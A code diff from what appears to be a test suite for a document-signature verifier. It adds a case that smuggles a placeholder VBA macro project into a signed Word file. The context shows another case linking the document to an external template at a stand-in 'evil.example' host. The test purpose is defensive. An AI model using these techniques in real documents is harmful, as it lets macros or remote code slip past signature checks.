@@ -276,6 +276,23 @@ def content_masked_by_font(victim: Victim, folder: Path) -> Path:
 
 
 @attack(Conclusion.INVALID, "ooxml-uncovered")
+def macros_added(victim: Victim, folder: Path) -> Path:
+    """A VBA project in a document that was signed without; its main part keeps the type that is signed."""
+    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
+    return changed(
+        victim.signed,
+        folder / "forged.docx",
+        {
+            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(508),
+            TYPES: replacing(
+                "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
+            ),
+            MAIN_RELS: _with_relationship("rIdVba", kind, "vbaProject.bin"),
+        },
+    )
+
+
+@attack(Conclusion.INVALID, "ooxml-uncovered")
 def attached_template_added(victim: Victim, folder: Path) -> Path:
     link = _with_relationship(
         "rIdTemplate", _OFFICE + "attachedTemplate", "https://evil.example/t.dotm", ' TargetMode="External"'
